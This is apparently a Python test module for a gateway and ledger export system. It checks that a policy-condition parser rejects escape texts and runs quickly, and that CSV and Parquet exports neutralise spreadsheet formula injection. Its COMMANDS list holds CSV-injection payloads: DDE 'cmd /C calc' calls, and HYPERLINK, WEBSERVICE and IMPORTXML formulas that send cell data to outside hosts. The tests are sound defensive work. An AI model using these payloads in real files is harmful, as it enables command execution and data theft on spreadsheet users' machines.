"""S8 and S9: texts of policies that would do something, texts of exports that a spreadsheet would.

S8 has a corpus of conditions, of which none may be taken; what is taken ends within a millisecond.
S9 writes texts that begin like formulas into every text column, beside numbers that stay numbers.
"""

import csv
import io
import time
import unicodedata
from pathlib import Path

import pyarrow.parquet
from case import Case, CaseFigures, Given

from gateway.config import conditions
from ledger.exports import delimited as exports_csv
from ledger.exports.attempts import COLUMNS
from ledger.exports.delimited import csv_lines
from ledger.exports.parquet import write_parquet
from ledger.exports.table import ColumnKind, ExportColumn

CORPUS = Path(__file__).with_name("corpus") / "conditions.txt"
LEAST = 200
STEPS_MS = 1.0
OPENINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
COMMANDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://10.0.0.7/?x="&A1,"open")',
    "SUM(1,1)*cmd|' /C x'!A0",
    'IMPORTXML("http://x/","//a")', 'WEBSERVICE("http://x/"&B2)', 'DDE("cmd";"/C calc";"x")',
    '2+5+cmd|"/C calc"!A0', "ROW()", "SUM(1+1)*cmd|'/C x'!A0\r\n=1", '";=1+1', "',=1+1", "1",
    "INDIRECT(A1)", "@SUM(1+9)", "+1", "-1-cmd|' /C x'!A0", 'IMAGE("http://x/")', "%0A-1+1",
)  # fmt: skip


def escapes() -> list[str]:
    lines = CORPUS.read_text(encoding="ascii").splitlines()
    return [line.encode().decode("unicode_escape") for line in lines if not line.startswith("# ")]


def taken(given: Given) -> CaseFigures:
    """Conditions of the corpus that are taken."""
    known = conditions._FUNCTIONS, conditions._LOOPS, conditions.LONGEST
    if given.broken:
        conditions._FUNCTIONS, conditions._LOOPS = _AnyPath(), frozenset()
        conditions.LONGEST = 10**9
    try:
        found = [text for text in escapes() if _is_taken(text)]
    finally:
        conditions._FUNCTIONS, conditions._LOOPS, conditions.LONGEST = known
    few = () if len(escapes()) >= LEAST else (f"fewer than {LEAST} texts",)
    return CaseFigures(len(found), f"{len(escapes())} texts", few)


class _AnyPath(frozenset):  # type: ignore[type-arg]  # of every name
    def __rsub__(self, _: object) -> frozenset[str]:
        return frozenset()


def _is_taken(text: str) -> bool:
    try:
        conditions.Condition(text)
    except conditions.ConditionError:
        return False
    return True


def slowest(given: Given) -> CaseFigures:
    """Of what may be taken, as long as it may be: milliseconds of this thread, best of five."""
    most = 1 if not given.broken else 200
    texts = [
        " || ".join([part] * (conditions.LONGEST // (len(part) + 4) * most))
        for part in (
            'model.contains("x")',
            '"z" in tags',
            'team == "x"',
            "n > 128",
            "!stream && n > 9",
        )
    ]
    wide = conditions.ConditionInput(
        model="m" * 256, team="t" * 256, tags={f"k{index}": "v" * 256 for index in range(64)}, n=1
    )
    limit, conditions.LONGEST = conditions.LONGEST, 10**9
    try:
        made = [conditions.Condition(text) for text in texts]
    finally:
        conditions.LONGEST = limit
    return CaseFigures(
        round(max(_ms(made_value, wide) for made_value in made), 3), f"{len(texts)} of the longest"
    )


def _ms(condition: conditions.Condition, asking: conditions.ConditionInput) -> float:
    found = []
    for _ in range(5):
        began = time.thread_time_ns()
        condition.evaluate(asking)
        found.append(time.thread_time_ns() - began)
    return min(found) / 1e6


def payloads() -> list[str]:
    return [opening + command for opening in OPENINGS for command in COMMANDS]


def cells(given: Given) -> CaseFigures:
    """Cells that a spreadsheet would run, and numbers that came back as texts."""
    risky, texts = exports_csv.RISKY, payloads()
    columns = [*COLUMNS, ExportColumn("below_zero", ColumnKind.USD)]
    rows = [[_of(column.kind, text) for column in columns] for text in texts]
    if given.broken:
        exports_csv.RISKY = frozenset()
    try:
        text = "".join(csv_lines(columns, rows))
    finally:
        exports_csv.RISKY = risky
    wrong = 0
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    for line, row in zip(read, rows, strict=True):
        for column, cell, value in zip(columns, line, row, strict=True):
            if column.kind is ColumnKind.TEXT:
                wrong += _runs(cell) or cell.removeprefix("'") != value
            elif column.kind in (ColumnKind.USD, ColumnKind.INTEGER):
                wrong += float(cell) >= 0
    wrong += _in_parquet(columns, rows)
    few = () if len(texts) >= LEAST else (f"fewer than {LEAST} texts",)
    return CaseFigures(wrong, f"{len(texts)} texts x {len(columns)} columns, CSV and Parquet", few)


def _of(kind: ColumnKind, text: str) -> object:
    return {
        ColumnKind.TEXT: text,
        ColumnKind.FLAG: True,
        ColumnKind.INSTANT: 1,
        ColumnKind.SECOND: 1,
    }.get(kind, -3)


def _runs(cell: str) -> bool:
    """As spreadsheets read a cell: wide forms are the same, and blanks before them are nothing."""
    return unicodedata.normalize("NFKC", cell).lstrip("\t\r\n \x00")[:1] in tuple("=+-@")


def _in_parquet(columns: list[ExportColumn], rows: list[list[object]]) -> int:
    """Cells have types there: a text is none of the others, and is what was written."""
    file = io.BytesIO()
    write_parquet(file, columns, rows)  # type: ignore[arg-type]  # rows as above
    file.seek(0)
    table = pyarrow.parquet.read_table(file)
    return sum(
        table.column(place).to_pylist() != [row[place] for row in rows]
        for place, column in enumerate(columns)
        if column.kind is ColumnKind.TEXT
    )


CASES = (
    Case("S8", "conditions that escape", taken, "any function is taken"),
    Case("S8", "slowest condition", slowest, "200 times as long", bar=STEPS_MS, unit="ms"),
    Case("S9", "cells that a spreadsheet runs", cells, "no apostrophe in front"),
)
